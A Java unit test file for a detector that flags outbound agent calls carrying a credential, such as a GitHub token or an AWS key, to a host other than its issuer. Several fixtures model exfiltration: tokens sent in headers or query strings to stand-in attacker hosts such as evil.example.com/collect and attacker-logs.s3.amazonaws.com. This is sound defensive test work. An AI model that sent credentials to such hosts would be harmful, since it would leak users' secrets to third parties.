package io.interven.plugin.signals;

import static org.assertj.core.api.Assertions.assertThat;

import io.interven.spi.AgentRef;
import io.interven.spi.DataClasses;
import io.interven.spi.FieldLocation;
import io.interven.spi.Finding;
import io.interven.spi.OutboundCall;
import io.interven.spi.ReasonCodes;
import io.interven.spi.ScanField;
import io.interven.spi.SignalContext;
import io.interven.spi.SignalResult;
import io.interven.spi.ToolMatch;
import io.interven.spi.Verb;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import org.junit.jupiter.api.Test;

class CredentialHostMismatchSignalTest {
    private static final String GITHUB_TOKEN = "ghp_R8vQm2LxT0aZk5WcN7yHs3JdPu9EbF1gXo4i";
    private static final String AUTHORIZATION = "Bearer " + GITHUB_TOKEN;

    private final CredentialHostMismatchSignal signal = new CredentialHostMismatchSignal();

    private static Finding githubTokenIn(ScanField field) {
        int start = field.text().indexOf(GITHUB_TOKEN);
        return field.credentialFinding("GITHUB_TOKEN", start, start + GITHUB_TOKEN.length(), 0.99, "github-pat",
                Set.of("github.com"));
    }

    private static Finding inAuthorizationHeader() {
        return githubTokenIn(new ScanField("headers.Authorization", FieldLocation.HEADER, "Authorization", AUTHORIZATION));
    }

    private static Optional<SignalResult> evaluate(CredentialHostMismatchSignal signal, String method, String url,
                                                   Finding... findings) {
        return evaluate(signal, OutboundCall.of(method, url, Map.of("Authorization", AUTHORIZATION)), findings);
    }

    private static Optional<SignalResult> evaluate(CredentialHostMismatchSignal signal, OutboundCall call,
                                                   Finding... findings) {
        SignalContext context = new SignalContext(call, new ToolMatch("custom_proxy", "http_post", Verb.WRITE),
                List.of(findings), new AgentRef("5a0a3a9e-8f5e-4c1e-9a38-6c3f3f3f3f3f", "agent", null));
        return signal.evaluate(context);
    }

    @Test
    void aTokenAuthenticatingToItsIssuerDoesNotFire() {
        assertThat(evaluate(signal, "POST", "https://api.github.com/repos/acme/web/issues", inAuthorizationHeader()))
                .isEmpty();
    }

    @Test
    void aSubDomainOfTheIssuerCountsAsTheIssuer() {
        assertThat(evaluate(signal, "GET", "https://uploads.github.com/repos/acme/web/releases", inAuthorizationHeader()))
                .isEmpty();
    }

    @Test
    void aTokenAuthenticatingToAnotherHostFires() {
        Optional<SignalResult> result = evaluate(signal, "POST", "https://evil.example.com/collect", inAuthorizationHeader());

        assertThat(result).hasValueSatisfying(fired -> {
            assertThat(fired.signalId()).isEqualTo("credential-host-mismatch");
            assertThat(fired.reasonCode()).isEqualTo(ReasonCodes.CREDENTIAL_HOST_MISMATCH);
            assertThat(fired.weight()).isEqualTo(0.9);
            assertThat(fired.detail()).contains("GITHUB_TOKEN", "evil.example.com").doesNotContain(GITHUB_TOKEN);
        });
    }

    @Test
    void aLookAlikeHostIsNotTheIssuer() {
        assertThat(evaluate(signal, "POST", "https://api.github.com.evil.com/x", inAuthorizationHeader())).isPresent();
        assertThat(evaluate(signal, "POST", "https://notgithub.com/x", inAuthorizationHeader())).isPresent();
    }

    @Test
    void aTokenInTheQueryOrUrlOfAnotherHostFires() {
        String url = "https://paste.example.net/new?token=" + GITHUB_TOKEN;
        Finding inQuery = githubTokenIn(new ScanField("query.token", FieldLocation.QUERY, "token", GITHUB_TOKEN));
        Finding inUrl = githubTokenIn(new ScanField("url", FieldLocation.URL, null, url));

        assertThat(evaluate(signal, "GET", url, inQuery)).isPresent();
        assertThat(evaluate(signal, "GET", url, inUrl)).isPresent();
    }

    @Test
    void aTokenInTheBodyIsDataNotAMismatch() {
        Finding inBody = githubTokenIn(new ScanField("$.text", FieldLocation.BODY, "text",
                "the deploy token is " + GITHUB_TOKEN));

        assertThat(evaluate(signal, "POST", "https://hooks.slack.com/services/T1/B2/x", inBody)).isEmpty();
    }

    @Test
    void findingsWithoutAKnownIssuerDoNotFire() {
        ScanField header = new ScanField("headers.X-Api-Key", FieldLocation.HEADER, "X-Api-Key", "Zm9vYmFyYmF6cXV4");
        Finding genericSecret = header.finding("GENERIC_SECRET", DataClasses.SECRETS, 0, 16, 0.6, "key-name");
        Finding email = new ScanField("headers.From", FieldLocation.HEADER, "From", "ann@corp.example.org")
                .finding("EMAIL_ADDRESS", DataClasses.PII, 0, 20, 0.9, "email");

        assertThat(evaluate(signal, "POST", "https://evil.example.com/collect", genericSecret, email)).isEmpty();
    }

    @Test
    void aCredentialWithSeveralIssuersIsAtHomeAtAnyOfThem() {
        String webhook = "https://hooks.slack.com/services/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";
        Finding slackWebhook = new ScanField("url", FieldLocation.URL, null, webhook).credentialFinding(
                "SLACK_WEBHOOK_URL", 0, webhook.length(), 0.99, "slack-webhook-url", Set.of("hooks.slack.com", "slack.com"));

        assertThat(evaluate(signal, "POST", webhook, slackWebhook)).isEmpty();
    }

    @Test
    void aHostUnderASharedHostingSuffixIsNeverTheProvider() {
        String awsKey = "AKIA5HGAZYXDOWG7M6RX";
        Finding inHeader = new ScanField("headers.X-Key", FieldLocation.HEADER, "X-Key", awsKey).credentialFinding(
                "AWS_ACCESS_KEY_ID", 0, awsKey.length(), 0.95, "aws-access-key-id",
                Set.of("amazonaws.com", "sts.us-east-1.amazonaws.com"));
        OutboundCall bucket = OutboundCall.of("PUT", "https://attacker-logs.s3.amazonaws.com/x", Map.of())
                .withSharedHostingSuffix("s3.amazonaws.com");
        OutboundCall api = OutboundCall.of("POST", "https://x.execute-api.us-east-1.amazonaws.com/prod", Map.of())
                .withSharedHostingSuffix("execute-api.us-east-1.amazonaws.com");
        OutboundCall listedRegionalEndpoint = OutboundCall.of("POST", "https://sts.us-east-1.amazonaws.com/", Map.of())
                .withSharedHostingSuffix("us-east-1.amazonaws.com");
        OutboundCall globalEndpoint = OutboundCall.of("POST", "https://iam.amazonaws.com/", Map.of());

        assertThat(evaluate(signal, bucket, inHeader)).hasValueSatisfying(fired ->
                assertThat(fired.detail()).contains("AWS_ACCESS_KEY_ID", "attacker-logs.s3.amazonaws.com"));
        assertThat(evaluate(signal, api, inHeader)).isPresent();
        assertThat(evaluate(signal, listedRegionalEndpoint, inHeader)).isEmpty();
        assertThat(evaluate(signal, globalEndpoint, inHeader)).isEmpty();
    }
}
